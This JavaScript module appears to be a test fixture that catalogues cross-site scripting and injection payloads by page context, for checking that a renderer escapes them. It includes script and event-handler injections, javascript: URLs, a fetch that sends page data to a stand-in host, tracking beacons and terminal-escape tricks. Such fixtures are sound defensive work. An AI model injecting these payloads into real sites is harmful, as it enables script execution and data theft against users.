// Texts that would do something in a browser if a page took them for more than text.

const RUN = "window.__pwned=1";
const HOST = "http://pwned.invalid";

/**
 * Where each would come to life if it were put there as it is (`raw-pages.mjs` has a page for each place). `nothing`: no part
 * of a page here reads it, and it must still be shown as it was written.
 */
const BY_PLACE = {
  html: [
    `<script>${RUN}</script>`,
    `<ScRiPt >${RUN}</sCrIpT>`,
    `<script src=${HOST}/a.js></script>`,
    `<script>fetch("${HOST}/steal?"+document.title)</script>`,
    `<script>new Image().src="${HOST}/beacon"</script>`,
    "<script>confirm(1)</script>",
    `<img src=x onerror=${RUN}>`,
    '<img src=x onerror="alert(1)">',
    `<img src=x onerror=&#119;indow.__pwned=1>`,
    `<img/src="x"/onerror=${RUN}>`,
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<body onload=${RUN}>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    '<iframe src="javascript:parent.__pwned=1"></iframe>',
    `<iframe src=${HOST}/frame></iframe>`,
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    `<object data=${HOST}/object></object>`,
    `<embed src=${HOST}/embed>`,
    `<link rel=stylesheet href=${HOST}/style.css>`,
    `<style>@import url(${HOST}/import.css);</style>`,
    `<img src=${HOST}/pixel.png>`,
    `<img srcset="${HOST}/set.png 1x">`,
    `<video poster=${HOST}/poster.png></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<div onmouseover=${RUN}>over</div>`,
    `<a href="javascript:${RUN}">click</a>`,
    `<a href="&#106;avascript:${RUN}">click</a>`,
    `<a href="java\tscript:${RUN}">click</a>`,
    `<meta http-equiv=refresh content="0;url=${HOST}/refresh">`,
    `<base href=${HOST}/><img src=based.png>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `</td></tr></table><script>${RUN}</script>`,
    `\ud800<script>${RUN}</script>`,
  ],
  attribute: [`"><script>${RUN}</script>`, `" onerror="${RUN}" src="x`, `" onmouseover="${RUN}`],
  singleQuotedAttribute: [`' onerror='${RUN}' src='x`, `'><svg/onload=${RUN}>`],
  address: [`javascript:${RUN}`, `JaVaScRiPt:${RUN}//`, "data:text/html,<script>alert(1)</script>"],
  json: [`</script><script>${RUN}</script>`, `</SCRIPT ><img src=x onerror=${RUN}>`],
  string: [`";${RUN};"`],
  template: [`\${${RUN}}`],
  title: [`</title><script>${RUN}</script>`],
  textarea: [`</textarea><img src=x onerror=${RUN}>`],
  style: [`red } </style><script>${RUN}</script>`, `red } p { background: url("${HOST}/sheet.png")`],
  styleAttribute: [`red; background: url(${HOST}/background.png)`],
  markdown: [
    `[click](javascript:${RUN})`,
    `![pixel](${HOST}/markdown.png)`,
    `<${HOST}/automatic>`,
    `${HOST}/bare`,
    `[click][1]\n\n[1]: javascript:${RUN}`,
    `a | b\n---|---\n<img src="x" onerror="${RUN}"> | c\n`,
    `> x\n\n**bold** <img src="x" onerror="${RUN}">`,
  ],
  plotly: [`<a href="${HOST}/label">here</a>`, "<b>bold</b>"],
  text: [
    "evil\u202etxt.exe",
    "\u2066hidden\u2069",
    "\u001b]0;pwned\u0007\u001b[2Jcleared",
    `\u001b]8;;${HOST}\u0007click\u001b]8;;\u0007`,
    "\u009b31mred",
  ],
  nothing: [`{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, "%{customdata}", `\uff1cscript\uff1e${RUN}`],
};

/** @typedef {{ place: keyof typeof BY_PLACE, text: string }} Payload */

const entries = /** @type {[Payload["place"], string[]][]} */ (Object.entries(BY_PLACE));

/** All of them. @type {readonly Payload[]} */
export const payloads = entries.flatMap(([place, texts]) => texts.map((text) => ({ place, text })));
